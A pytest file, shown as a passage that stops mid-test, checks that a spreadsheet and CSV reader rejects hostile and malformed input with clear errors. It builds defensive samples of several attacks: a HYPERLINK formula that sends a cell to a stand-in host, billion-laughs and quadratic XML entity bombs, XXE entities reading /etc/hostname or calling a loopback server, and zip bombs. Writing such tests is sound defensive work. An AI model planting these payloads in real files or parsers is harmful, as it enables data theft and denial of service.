"""Hostile and malformed inputs (research/reliability.md sections 1.4 and 2): each gives one clean
``InputError`` naming the row, the column and what was found, never a traceback.

Every fixture is built inside the test under ``tmp_path``; big ones are kept small by lowering the
reader's limits with ``monkeypatch``.
"""

from __future__ import annotations

import datetime as dt
import http.server
import os
import re
import struct
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from files import rewrite_entry, write_csv, write_xlsx
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ledger_report.config import COLUMN_NAMES
from ledger_report.errors import InputError
from ledger_report.inputs import cells, read_configs, tables, xlsx

# --- helpers ---------------------------------------------------------------------------------


def add_entry(path: Path, name: str, data: bytes, compression: int = zipfile.ZIP_DEFLATED) -> None:
    with zipfile.ZipFile(path, "a", compression) as zf:
        zf.writestr(name, data)


def error_of(path: Path) -> str:
    with pytest.raises(InputError) as info:
        read_configs(path)
    return str(info.value)


def assert_names(message: str, *parts: str) -> None:
    for part in parts:
        assert part in message, f"{part!r} not in:\n{message}"


BASE = [["name", "params_total"], ["m", 7_000_000_000]]
SHEET = "xl/worksheets/sheet1.xml"


# --- INJ-02: error-code and formula text as input ---------------------------------------------


@pytest.mark.parametrize(
    "text", ["#N/A", "#DIV/0!", "#REF!", "=1+1", '=HYPERLINK("http://x/?"&A1)', "@SUM(1,1)", "+1+1"]
)
def test_inj02_error_codes_as_input_text(tmp_path, text):
    """INJ-02: names spelling Excel errors or formulas are text, from CSV and from a text cell."""
    quoted = '"' + text.replace('"', '""') + '"'
    (config,) = read_configs(write_csv(tmp_path, f"name,params_total\n{quoted},7B\n"))
    assert config.name == text

    def as_text(ws):
        ws["A2"].value = text
        ws["A2"].data_type = "s"

    (config,) = read_configs(write_xlsx(tmp_path, BASE, setup=as_text))
    assert config.name == text


def test_inj02_real_error_cell_in_name(tmp_path):
    """A true error cell (type 'e') in a text column is reported by cell."""

    def as_error(ws):
        ws["A2"] = "#N/A"  # openpyxl stores the error code as an error cell

    message = error_of(write_xlsx(tmp_path, BASE, setup=as_error))
    assert_names(
        message, "Inputs!A2", "row 2", 'column "name"', "cell A2 holds the Excel error #N/A"
    )


def test_inj06_inj07_control_characters_and_long_text(tmp_path):
    """Control characters and text over 32,767 characters are errors, not silent edits."""
    message = error_of(write_csv(tmp_path, "name,params_total,notes\nm,7B,a\x07b\n"))
    assert_names(message, "line 2", 'column "notes"', "U+0007", '"a\\u0007b"')
    message = error_of(write_csv(tmp_path, "name,params_total,notes\nm,7B," + "x" * 40_000 + "\n"))
    assert_names(message, "line 2", 'column "notes"', "40,000 characters")


# --- ZIP-01..05: the container ---------------------------------------------------------------


def test_zip_default_limits():
    """The defaults are the ones in the brief (POI's ZipSecureFile for ratio and count)."""
    assert xlsx.MAX_ENTRY_BYTES == 200 * 2**20
    assert xlsx.MAX_ZIP_ENTRIES == 1000
    assert xlsx.MAX_RATIO == 100 and xlsx.RATIO_GRACE_BYTES == 100 * 1024
    assert tables.MAX_ROWS == 100_000


def test_zip01_entry_over_size_limit(tmp_path, monkeypatch):
    """ZIP-01: a part declaring more than the limit is refused before any XML is parsed."""
    monkeypatch.setattr(xlsx, "MAX_ENTRY_BYTES", 1 * 2**20)
    path = write_xlsx(tmp_path, BASE)
    add_entry(path, "xl/media/big.bin", os.urandom(2 * 2**20), zipfile.ZIP_STORED)
    message = error_of(path)
    assert_names(message, "inputs.xlsx", "'xl/media/big.bin'", "2,097,152 bytes", "1,048,576")


@pytest.mark.parametrize(
    "size,compressible,refused",
    [
        (200 * 1024, True, True),  # ~1000:1 and over 100 KiB
        (200 * 1024, False, False),  # over 100 KiB but ratio ~2:1
        (100 * 1024, True, False),  # ratio ~1000:1 but within the 100 KiB grace
        (100 * 1024 + 1, True, True),  # one byte over the grace
    ],
    ids=["big-bomb", "big-plain", "small-bomb", "grace-plus-one"],
)
def test_zip02_compression_ratio(tmp_path, size, compressible, refused):
    """ZIP-02: ratio > 100:1 refused only for parts over 100 KiB (both sides of each threshold)."""
    path = write_xlsx(tmp_path, BASE)
    data = b" " * size if compressible else os.urandom(size // 2).hex().encode()[:size]
    add_entry(path, "xl/media/pad.bin", data)
    if refused:
        assert_names(error_of(path), "'xl/media/pad.bin'", f"{size:,} bytes", "ratio", "100:1")
    else:
        assert read_configs(path)[0].name == "m"


def test_zip03_too_many_entries(tmp_path):
    """ZIP-03: more than 1,000 entries are refused."""
    path = write_xlsx(tmp_path, BASE)
    with zipfile.ZipFile(path, "a") as zf:
        for i in range(1000):
            zf.writestr(f"customXml/x{i}.bin", b"")
    n = len(zipfile.ZipFile(path).infolist())
    assert_names(error_of(path), "at most 1,000 zip entries", f"{n:,} entries")


def test_zip03_entry_count_refused_before_any_xml_is_parsed(tmp_path):
    """ZIP-03: the count is checked from zipfile's listing before openpyxl parses a part: a
    workbook with too many entries and an entity bomb in workbook.xml gets the count sentence."""
    path = write_xlsx(tmp_path, BASE)
    rewrite_entry(
        path, "xl/workbook.xml", lambda xml: BILLION_LAUGHS.replace(b"worksheet", b"workbook") + xml
    )
    with zipfile.ZipFile(path, "a") as zf:
        for i in range(1000):
            zf.writestr(f"customXml/x{i}.bin", b"")
    message = error_of(path)
    assert_names(message, "at most 1,000 zip entries")
    assert "entity" not in message


def test_zip03_a_lying_entry_count_costs_nothing(tmp_path):
    """ZIP-03: an end record claiming 60,000 entries over a directory of a few is read as what it
    holds: zipfile walks the directory by its recorded size and never trusts the count, so the
    claim can neither slow the read nor hide entries (the count checked is the listing's)."""
    path = write_xlsx(tmp_path, BASE)
    data = bytearray(path.read_bytes())
    end = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, end + 8, 60_000, 60_000)
    path.write_bytes(bytes(data))
    start = time.perf_counter()
    (config,) = read_configs(path)
    assert config.name == "m" and time.perf_counter() - start < 1.0


def _declare_size(path: Path, entry: str, declared: int) -> None:
    """Patch the uncompressed size of ``entry`` in its local header and central directory."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(entry)
    struct.pack_into("<I", data, info.header_offset + 22, declared)
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        if bytes(data[pos + 46 : pos + 46 + name_len]).decode() == entry:
            struct.pack_into("<I", data, pos + 24, declared)
        pos = data.find(b"PK\x01\x02", pos + 46 + name_len + extra_len + comment_len)
    path.write_bytes(bytes(data))


def test_zip04_lying_size_header(tmp_path):
    """ZIP-04: a part declaring 1,000 bytes but holding 3 MB is a corrupt workbook (CRC mismatch)."""
    path = write_xlsx(tmp_path, BASE)
    rewrite_entry(
        path, SHEET, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * 3_000_000)
    )
    _declare_size(path, SHEET, 1000)
    assert_names(error_of(path), "inputs.xlsx", "corrupt workbook", "CRC")


def _ole(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024)


def _renamed_csv(path: Path) -> None:
    path.write_text("name,params_total\nm,7B\n")


def _truncated(path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active.append(["name"])
    wb.save(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _empty(path: Path) -> None:
    path.write_bytes(b"")


def _binary(path: Path) -> None:
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00\xff" * 100)


def _zip_not_office(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("hello.txt", "hi")


@pytest.mark.parametrize(
    "make,phrase",
    [
        (_ole, "password-protected workbook or a legacy .xls"),
        (_renamed_csv, "plain text (a CSV renamed .xlsx?)"),
        (_truncated, "corrupt or truncated"),
        (_empty, "an empty file"),
        (_binary, "not a zip archive"),
        (_zip_not_office, "without [Content_Types].xml"),
    ],
    ids=["ole", "renamed-csv", "truncated", "empty", "binary", "zip-not-office"],
)
def test_zip05_not_a_workbook(tmp_path, make, phrase):
    """ZIP-05: one specific sentence for each kind of non-workbook."""
    path = tmp_path / "inputs.xlsx"
    make(path)
    message = error_of(path)
    assert_names(message, "inputs.xlsx", phrase)
    assert "\n" not in message


@pytest.mark.parametrize(
    "name,phrase",
    [
        ("missing.csv", "no such file"),
        ("inputs.xls", "legacy .xls"),
        ("inputs.json", "'.json'"),
        ("inputs.ods", ".ods"),
    ],
)
def test_zip05_paths(tmp_path, name, phrase):
    """A missing file, a legacy .xls and unsupported extensions are InputErrors."""
    path = tmp_path / name
    if name != "missing.csv":
        path.write_bytes(b"whatever")
    assert_names(error_of(path), name, phrase)


def test_zip05_directory(tmp_path):
    """A directory (even one named like a CSV) is an InputError."""
    (tmp_path / "dir.csv").mkdir()
    assert_names(error_of(tmp_path / "dir.csv"), "dir.csv", "a directory")


# --- XML-01: entity declarations -------------------------------------------------------------

BILLION_LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10)
        for i in range(1, 10)
    )
    + b"]>"
)
QUADRATIC = b'<!DOCTYPE worksheet [<!ENTITY a "' + b"A" * 50_000 + b'">]>'


def _with_doctype(doctype: bytes, reference: bytes):
    def change(xml: bytes) -> bytes:
        xml = xml.replace(b"<t>m</t>", b"<t>" + reference + b"</t>", 1)
        return doctype + xml

    return change


@pytest.fixture(scope="module")
def loopback():
    """A loopback HTTP server that records every request it gets."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's name
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"leaked")

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    yield server.server_address[1], hits
    server.shutdown()
    server.server_close()


def test_xml01_defusedxml_active():
    """XML-01: openpyxl must be running on defusedxml (not switched off by OPENPYXL_DEFUSEDXML)."""
    assert openpyxl.DEFUSEDXML is True


def test_xml01_openpyxl_parses_with_the_standard_library_not_lxml():
    """XML-01: the defusedxml cases below hold for openpyxl's standard-library parser.  With lxml
    installed openpyxl parses through lxml instead, and a workbook part declaring an internal
    entity then no longer got the refusal sentence (seen when pikepdf brought lxml in:
    test_xml01_entity_attacks[workbook-part] failed without the byte pre-scan the reader had
    then).  Entities are now refused by defusedxml alone, so a dependency that brings lxml must
    come with tests of that path, and its arrival fails here first."""
    import openpyxl.xml

    assert openpyxl.xml.LXML is False


@pytest.mark.parametrize(
    "attack",
    ["billion-laughs", "quadratic", "xxe-file", "xxe-http", "workbook-part", "styles-part"],
)
def test_xml01_entity_attacks(tmp_path, loopback, attack):
    """XML-01: every entity attack gets the same sentence (defusedxml's refusal inside openpyxl);
    nothing is fetched from the network."""
    port, hits = loopback
    hits.clear()
    path = write_xlsx(tmp_path, BASE)
    entry = SHEET
    if attack == "billion-laughs":
        change = _with_doctype(BILLION_LAUGHS, b"&lol9;")
    elif attack == "quadratic":
        change = _with_doctype(QUADRATIC, b"&a;" * 2000)
    elif attack == "xxe-file":
        change = _with_doctype(
            b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/hostname">]>', b"&x;"
        )
    elif attack == "xxe-http":
        change = _with_doctype(
            b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "http://127.0.0.1:%d/x">]>' % port, b"&x;"
        )
    elif attack == "styles-part":
        entry = "xl/styles.xml"
        change = lambda xml: b'<!DOCTYPE styleSheet [<!ENTITY x "y">]>' + xml  # noqa: E731
    else:
        entry = "xl/workbook.xml"
        change = lambda xml: b'<!DOCTYPE workbook [<!ENTITY x "y">]>' + xml  # noqa: E731
    rewrite_entry(path, entry, change)
    message = error_of(path)
    assert_names(
        message, "inputs.xlsx", "workbook contains XML entity declarations; refusing to read"
    )
    assert hits == []


# --- WB-02..09: workbook structure -----------------------------------------------------------


def test_wb02_duplicate_header_after_normalisation(tmp_path):
    """WB-02: `params_total`, ` Params_Total ` and the full-width spelling are one column twice."""
    rows = [["name", "params_total", " Params_Total ", "ｐａｒａｍｓ＿ｔｏｔａｌ"], ["m", 1, 2, 3]]
    message = error_of(write_xlsx(tmp_path, rows))
    assert_names(
        message,
        "row 1",
        'column "params_total"',
        "column B",
        "column C",
        "column D",
        "each column once",
    )
    message = error_of(write_csv(tmp_path, "name,dp, DP\nm,1,2\n"))
    assert_names(message, "line 1", 'column "dp"', "field 2 (B)", "field 3 (C)")


def test_wb03_blank_header_with_data(tmp_path):
    """WB-03: data under a blank header cell is an error naming the cell and first row."""
    rows = [["name", None, "params_total"], ["m", None, 7], ["n", "stray", 7]]
    message = error_of(write_xlsx(tmp_path, rows))
    assert_names(message, "Inputs!B1", "row 1", "blank header", "row 3")
    message = error_of(write_csv(tmp_path, "name,,params_total\nm,,7\nn,stray,7\n"))
    assert_names(message, "line 1", "field 2 (B)", "line 3")


def test_wb03_data_right_of_header_in_workbook(tmp_path):
    """Data in a column right of the last header cell is an error too."""
    rows = [["name", "params_total"], ["m", 7, None, "x"]]
    assert_names(error_of(write_xlsx(tmp_path, rows)), "Inputs!D1", "blank header", "row 2")


def test_wb03_unknown_columns_named_with_suggestions(tmp_path):
    """WB-03: unknown columns are one error naming all of them, with a suggestion."""
    message = error_of(write_csv(tmp_path, "name,parms_total,dpp,colour\nm,7B,1,red\n"))
    assert_names(
        message,
        "line 1",
        '"parms_total" in field 2 (B) (did you mean "params_total"?)',
        '"dpp" in field 3 (C)',
        '"colour" in field 4 (D)',
    )
    assert message.count("\n") == 0


def test_wb03_missing_name_column(tmp_path):
    """WB-03: no `name` column is an error listing what the header holds."""
    message = error_of(write_csv(tmp_path, "params_total,dp\n7B,1\n"))
    assert_names(message, "line 1", 'column "name"', '"params_total", "dp"')


def test_wb04_merged_cells(tmp_path):
    """WB-04: merged cells in the data region are refused, naming the range and rows."""

    def merge(ws):
        ws.merge_cells("A3:A4")

    rows = [["name", "params_total"], ["a", 1], ["b", 2], [None, 3]]
    message = error_of(write_xlsx(tmp_path, rows, setup=merge))
    assert_names(message, "Inputs!A3:A4", "row 3", "rows 3–4", "unmerge")


def test_wb05_blank_rows_keep_excel_row_numbers(tmp_path):
    """WB-05: empty rows are skipped and later errors name Excel's row number."""
    rows = [["name", "params_total", "dp"], ["a", 1, 1], [], [], [None, None, None], ["b", 1, 0]]
    message = error_of(write_xlsx(tmp_path, rows))
    assert_names(message, "Inputs!C6", "row 6", 'column "dp"', "found 0")


def test_wb06_formula_without_saved_value(tmp_path):
    """WB-06: a formula with no cached result names the cell; never NaN or a default."""
    rows = [
        ["name", "params_total", "tokens", "dp", "tp"],
        ["a", 1, 2, 1, 1],
        ["b", 1, 2, 1, 1],
        ["c", 1, 2, 1, 1],
        ["d", 7, 1, "=B5*2", 1],
    ]
    message = error_of(write_xlsx(tmp_path, rows))
    assert_names(
        message,
        "Inputs!D5",
        "row 5",
        'column "dp"',
        "cell D5 holds a formula with no saved value",
        "=B5*2",
    )


def test_wb06_formula_with_saved_value_and_saved_empty_string(tmp_path):
    """WB-06: the cached value is used; a formula whose saved result is "" is an empty cell."""
    rows = [["name", "params_total", "dp", "notes"], ["a", 7, "=1+1", '=""']]
    path = write_xlsx(tmp_path, rows)
    rewrite_entry(
        path,
        SHEET,
        lambda xml: xml.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>").replace(
            b'<c r="D2"><f>""</f><v />', b'<c r="D2" t="str"><f>""</f><v />'
        ),
    )
    (config,) = read_configs(path)
    assert config.get("dp") == 2 and config.get("notes") is None


@pytest.mark.parametrize("code", ["#DIV/0!", "#N/A", "#REF!", "#VALUE!"])
def test_wb07_error_cells(tmp_path, code):
    """WB-07: Excel error values in number columns name the cell and the error."""
    rows = [
        ["name", "params_total", "dp", "tp", "mfu"],
        ["a", 7, 1, 1, 0.4],
        ["b", 7, 1, 1, 0.4],
        ["c", 7, 1, 1, 0.4],
        ["d", 7, 1, 1, code],
    ]
    message = error_of(write_xlsx(tmp_path, rows))
    assert_names(
        message, "Inputs!E5", "row 5", 'column "mfu"', f"cell E5 holds the Excel error {code}"
    )


@pytest.mark.parametrize(
    "value", [dt.datetime(2026, 3, 8), dt.date(2026, 1, 2)], ids=["datetime", "date"]
)
def test_wb08_dates_in_number_columns(tmp_path, value):
    """WB-08: a date where a number belongs says Excel may have converted the text."""
    rows = [["name", "params_total", "tp"], ["m", 7, value]]
    message = error_of(write_xlsx(tmp_path, rows))
    assert_names(
        message,
        "Inputs!C2",
        "row 2",
        'column "tp"',
        f"a date {value:%Y-%m-%d}",
        "Excel may have converted",
    )


def _many_rows(tmp_path: Path, n: int) -> Path:
    rows = [["name", "params_total"]] + [[f"m{i}", 7] for i in range(n)]
    return write_xlsx(tmp_path, rows)


def test_wb09_understated_dimension_reads_every_row(tmp_path):
    """WB-09 / finding 4: `<dimension ref="A1:B2">` on a 300-row sheet still gives 300 rows."""
    path = _many_rows(tmp_path, 300)
    rewrite_entry(
        path,
        SHEET,
        lambda xml: xml.replace(b'<dimension ref="A1:B301" />', b'<dimension ref="A1:B2" />'),
    )
    assert b'ref="A1:B2"' in zipfile.ZipFile(path).read(SHEET)
    assert len(read_configs(path)) == 300


def test_wb09_overstated_dimension_and_far_cell_fast(tmp_path):
    """WB-09: `A1:XFD1048576` and a formatted empty XFD cell neither pad rows nor slow the read."""
    path = _many_rows(tmp_path, 200)
    rewrite_entry(
        path,
        SHEET,
        lambda xml: xml.replace(
            b'<dimension ref="A1:B201" />', b'<dimension ref="A1:XFD1048576" />'
        ).replace(
            b'<c r="B2" t="n"><v>7</v></c>', b'<c r="B2" t="n"><v>7</v></c><c r="XFD2" s="0" />'
        ),
    )
    start = time.perf_counter()
    configs = read_configs(path)
    assert time.perf_counter() - start < 1.0
    assert len(configs) == 200


def test_wb09_a_huge_row_number_is_not_walked_to(tmp_path):
    """WB-09: `<row r="2000000000">` stops at Excel's last row with an error, in well under a
    second (iter_rows fills the gap before a row with empty rows; they are counted, not walked to
    the end)."""
    path = _many_rows(tmp_path, 3)
    far = b'<row r="2000000000"><c r="A2000000000" t="inlineStr"><is><t>x</t></is></c></row>'
    rewrite_entry(path, SHEET, lambda xml: xml.replace(b"</sheetData>", far + b"</sheetData>"))
    start = time.perf_counter()
    message = error_of(path)
    assert time.perf_counter() - start < 1.0
    assert_names(message, "row 1048577", "at most 1,048,576 rows")


def test_wb09_rows_padded_to_a_far_cell_are_bounded(tmp_path, monkeypatch):
    """WB-09: every row ending in an empty formatted cell in column XFD is padded to 16,384 cells;
    past MAX_SHEET_CELLS such cells in all the read stops, naming the row and the column."""
    monkeypatch.setattr(xlsx, "MAX_SHEET_CELLS", 100_000)
    path = _many_rows(tmp_path, 20)

    def far_cells(xml: bytes) -> bytes:
        return re.sub(
            rb'(<row r="(\d+)"[^>]*>.*?)</row>',
            lambda m: m.group(1) + b'<c r="XFD' + m.group(2) + b'" s="0" /></row>',
            xml,
        )

    rewrite_entry(path, SHEET, far_cells)
    assert_names(
        error_of(path), "row 7", "at most 100,000 cells", "column XFD", "delete the unused columns"
    )
    monkeypatch.setattr(xlsx, "MAX_SHEET_CELLS", 20_000_000)
    assert len(read_configs(path)) == 20


def test_wb06_formula_without_saved_value_after_blank_and_formatted_rows(tmp_path):
    """WB-06: the formula text comes from a second reader walking behind the first; blank rows,
    formatted empty cells and formulas with saved values before it keep the two in step."""

    def setup(ws):
        ws["C5"].number_format = "0.00"  # formatted, empty: reads as an empty cell
        ws["A9"], ws["B9"], ws["C9"] = "late", 7, "=B9+1"

    rows = [["name", "params_total", "dp"], ["a", 7, "=1+1"], [], [], [None, None, None]]
    path = write_xlsx(tmp_path, rows, setup=setup)
    rewrite_entry(path, SHEET, lambda xml: xml.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>"))
    message = error_of(path)
    assert_names(
        message,
        "Inputs!C9",
        "row 9",
        'column "dp"',
        "cell C9 holds a formula with no saved value (=B9+1)",
    )
    assert message.count("\n") == 0


def test_wb10_row_bound_xlsx(tmp_path, monkeypatch):
    """The 400,000-row case, scaled down: more rows than MAX_ROWS stop the read with an error."""
    monkeypatch.setattr(tables, "MAX_ROWS", 50)
    message = error_of(_many_rows(tmp_path, 60))
    assert_names(message, "row 52", "at most 50 configuration rows")


def test_wb10_row_bound_csv(tmp_path, monkeypatch):
    """The same bound for CSV."""
    monkeypatch.setattr(tables, "MAX_ROWS", 50)
    text = "name,params_total\n" + "".join(f"m{i},7\n" for i in range(60))
    assert_names(error_of(write_csv(tmp_path, text)), "line 52", "at most 50 configuration rows")


def test_wb_empty_sheet_and_header_only(tmp_path):
    """An empty sheet or a header with no rows is an error, not an empty report."""
    assert_names(error_of(write_xlsx(tmp_path, [])), "row 1", "an empty sheet")
    assert_names(
        error_of(write_xlsx(tmp_path, [["name", "params_total"]])), "at least one configuration row"
    )


def test_wb_only_hidden_sheets(tmp_path):
    """A workbook whose sheets are all hidden has nothing to read."""

    path = write_xlsx(tmp_path, BASE)  # openpyxl will not save an all-hidden workbook; patch it
    rewrite_entry(
        path, "xl/workbook.xml", lambda xml: xml.replace(b'state="visible"', b'state="hidden"')
    )
    assert b'state="hidden"' in zipfile.ZipFile(path).read("xl/workbook.xml")
    assert_names(error_of(path), "only hidden sheets")


# --- CSV-01..07: text inputs -----------------------------------------------------------------


def test_csv02_undecodable_bytes(tmp_path):
    """CSV-02: bytes that are neither UTF-8 nor GB18030 name the line and byte offset."""
    path = tmp_path / "inputs.csv"
    data = b"name,params_total\nm,7B\nn\xff\xfe,7B\n"
    path.write_bytes(data)
    message = error_of(path)
    assert_names(message, "line 3", "byte offset 24", "CSV UTF-8")


def test_csv02_utf16_without_bom(tmp_path):
    """UTF-16 without a byte-order mark is named, not read as garbage headers."""
    path = tmp_path / "inputs.csv"
    path.write_bytes("name,params_total\nm,7B\n".encode("utf-16-le"))
    assert_names(error_of(path), "line 1", "UTF-16 without a byte-order mark")


@pytest.mark.parametrize("position", ["first", "later"])
def test_csv03_unquoted_thousands_comma(tmp_path, position):
    """CSV-03 / finding 2: `x,1,024` is an error naming the line, wherever the row is."""
    rows = ["x,1,024", "y,7B"] if position == "first" else ["y,7B", "z,8B", "x,1,024"]
    line = 2 if position == "first" else 4
    message = error_of(write_csv(tmp_path, "name,params_total\n" + "\n".join(rows) + "\n"))
    assert_names(message, f"line {line}", "3 fields", "at most 2 fields", '"1,024"', '"x,1,024"')


def test_csv04_short_rows_are_an_error(tmp_path):
    """CSV-04: a row with fewer fields than the header is an error naming the line and both counts.

    Accepting it would let an unquoted 1,024 shift the cells left unnoticed: under the header
    name,params_total,dp,tp the row x,1,024 would read as params_total=1, dp=24.
    """
    message = error_of(write_csv(tmp_path, "name,params_total,dp,tp\nm,7B\n"))
    assert_names(message, "line 2", "4 fields", "2 fields")
    message = error_of(write_csv(tmp_path, "name,params_total,dp,tp\nx,1,024\n"))
    assert_names(message, "line 2", "4 fields", "3 fields")
    (config,) = read_configs(write_csv(tmp_path, "name,params_total,dp,tp\nm,7B,,\n"))
    assert config.get("dp") is None and config.get("tp") is None


def test_csv05_na_names(tmp_path):
    """CSV-05: NA, None, null, N/A stay names."""
    text = "name,params_total\nNA,1\nNone,1\nnull,1\nN/A,1\n"
    assert [c.name for c in read_configs(write_csv(tmp_path, text))] == [
        "NA",
        "None",
        "null",
        "N/A",
    ]


def test_csv06_semicolon_with_decimal_commas_is_clear(tmp_path):
    """CSV-06: a ';' file is read; a decimal comma inside it gets the decimal-comma hint."""
    message = error_of(write_csv(tmp_path, "name;params_total;mfu\nm;7B;0,4\n"))
    assert_names(message, "line 2", 'column "mfu"', '"0,4"', "decimal comma")


def test_csv07_quoted_newline_keeps_physical_lines(tmp_path):
    """CSV-07: a note spanning lines is one record; later errors name the physical line."""
    text = 'name,params_total,notes,dp\na,7B,"line one\nline two\nline three",1\nb,7B,,zero\n'
    message = error_of(write_csv(tmp_path, text))
    assert_names(message, "line 5", 'column "dp"', '"zero"')
    (config,) = read_configs(write_csv(tmp_path, text.replace("zero", "2")))[:1]
    assert config.get("notes") == "line one\nline two\nline three"


def test_csv_unclosed_quote_is_clean(tmp_path):
    """A quote left open to the end of the file is an InputError, not a csv.Error."""
    with pytest.raises(InputError):
        read_configs(write_csv(tmp_path, 'name,params_total,notes\nm,7B,"open\n'))


# --- NUM-01..06: values ----------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["3,5", "1,02", "12,34,567", "1,0245"])
def test_num02_decimal_comma(tmp_path, cell):
    """NUM-02: commas that are not thousands groups get the decimal-comma hint."""
    message = error_of(write_csv(tmp_path, f'name,params_total\nm,"{cell}"\n'))
    assert_names(message, "line 2", 'column "params_total"', f'"{cell}"', "decimal comma")


@pytest.mark.parametrize(
    "cell,phrase",
    [
        ("nan", "not a finite number"),
        ("inf", "not a finite number"),
        ("1e400", "at most 10^16"),
        ("2e16", "at most 10^16"),
        ("1e-400", "not a whole number"),
        ("8.1907353605B", "not a whole number"),
        ("0x10", "hexadecimal"),
        ("TRUE", "7B"),
        ("١٢٣", "7B"),  # Arabic-Indic digits: ASCII only
        ("7G", "write B for billions"),
        ("-5", "≥ 1"),
        ("5B%", "percent sign is only accepted in mfu"),
        ("8e9B", "exponent or a suffix"),
    ],
)
def test_num03_bad_counts(tmp_path, cell, phrase):
    """NUM-03/04: non-numbers, overflows and underflows in a count column name the cell."""
    message = error_of(write_csv(tmp_path, f"name,params_total\nm,{cell}\n"))
    assert_names(message, "line 2", 'column "params_total"', f'"{cell}"', phrase)


@pytest.mark.parametrize(
    "value,phrase",
    [
        (True, "TRUE/FALSE cell is not a number"),
        ("1E999", "not a finite number"),  # an overflowing number cell reads as inf
        (1.5e16, "at most 10^16"),
        (7.5, "not a whole number"),
    ],
    ids=["bool", "inf", "huge", "fraction"],
)
def test_num03_bad_count_cells(tmp_path, value, phrase):
    """NUM-03: workbook cells that are booleans, infinite number cells, too large or fractional."""
    path = write_xlsx(
        tmp_path, [["name", "params_total"], ["m", 1 if isinstance(value, str) else value]]
    )
    if isinstance(value, str):  # openpyxl cannot write inf; a hostile file can
        rewrite_entry(
            path,
            SHEET,
            lambda xml: xml.replace(
                b'<c r="B2" t="n"><v>1</v>', b'<c r="B2" t="n"><v>' + value.encode() + b"</v>"
            ),
        )
    message = error_of(path)
    assert_names(message, "Inputs!B2", "row 2", 'column "params_total"', phrase)


def test_num03_nan_cell_is_a_clean_error(tmp_path):
    """A number cell holding `NaN` (no Excel writes it) is refused by openpyxl; still an InputError."""
    path = write_xlsx(tmp_path, [["name", "params_total"], ["m", 1]])
    rewrite_entry(
        path,
        SHEET,
        lambda xml: xml.replace(b'<c r="B2" t="n"><v>1</v>', b'<c r="B2" t="n"><v>NaN</v>'),
    )
    assert_names(error_of(path), "inputs.xlsx", "could not be read", "NaN")


def test_num04_suffix_only_in_count_columns(tmp_path):
    """NUM-04: 32K is not accepted as a sequence length (32,000 or 32,768?)."""
    message = error_of(write_csv(tmp_path, "name,params_total,seq_len\nm,7B,32K\n"))
    assert_names(message, "line 2", 'column "seq_len"', '"32K"', "suffixes are only for counts")


@pytest.mark.parametrize(
    "column,cell,phrase",
    [
        ("dp", "1.5", "not a whole number"),
        ("dp", "0", "≥ 1"),
        ("tp", "-1", "≥ 1"),
        ("pp", "TRUE", "a whole number ≥ 1"),
        ("zero", "4", "from 0 to 3"),
        ("mfu", "40", "did you mean 40%?"),
        ("mfu", "0", "in (0, 1]"),
        ("mfu", "140%", "in (0, 1]"),
        ("hbm_gb", "inf", "not a finite number"),
        ("glu", "maybe", "true or false"),
        ("days", "1e309", "not a finite number"),
    ],
)
def test_num05_column_domains(tmp_path, column, cell, phrase):
    """NUM-05: per-column domains with the found value and a hint."""
    message = error_of(write_csv(tmp_path, f"name,params_total,{column}\nm,7B,{cell}\n"))
    assert_names(message, "line 2", f'column "{column}"', f'"{cell}"', phrase)


def test_num05_mfu_forms(tmp_path):
    """NUM-05: 0.4, "40%" and a 0%-formatted 0.4 are all 0.4; a number cell 40 asks about 40%."""
    configs = read_configs(
        write_csv(tmp_path, "name,params_total,mfu\na,1,0.4\nb,1,40%\nc,1, 40 % \n")
    )
    assert [c.get("mfu") for c in configs] == [0.4, 0.4, 0.4]
    message = error_of(write_xlsx(tmp_path, [["name", "params_total", "mfu"], ["m", 1, 40]]))
    assert_names(message, "Inputs!C2", 'column "mfu"', "found 40", "did you mean 40%?")


@pytest.mark.parametrize(
    "cell,canonical",
    [
        ("bf16", "bf16"),
        ("BF16 ", "bf16"),
        ("bfloat16", "bf16"),
        ("float8_e4m3fn", "fp8"),
        ("FP32", "fp32"),
        ("Float16", "fp16"),
    ],
)
def test_num06_dtype_aliases(tmp_path, cell, canonical):
    """NUM-06: dtype spellings map to canonical names."""
    (config,) = read_configs(write_csv(tmp_path, f"name,params_total,weight_dtype\nm,7B,{cell}\n"))
    assert config.get("weight_dtype") == canonical


@pytest.mark.parametrize("cell", ["fp12", "tf32", "int4"])
def test_num06_unknown_dtype(tmp_path, cell):
    """NUM-06: an unknown dtype lists the accepted names."""
    message = error_of(write_csv(tmp_path, f"name,params_total,weight_dtype\nm,7B,{cell}\n"))
    assert_names(
        message, "line 2", 'column "weight_dtype"', f'"{cell}"', "one of fp32, bf16, fp16, fp8"
    )


def test_unknown_gpu_lists_catalogue(tmp_path):
    """An unknown GPU names the catalogue, what would describe it, and suggests the nearest one."""
    message = error_of(write_csv(tmp_path, "name,params_total,gpu\nm,7B,H100-SMX\n"))
    assert_names(
        message,
        "line 2",
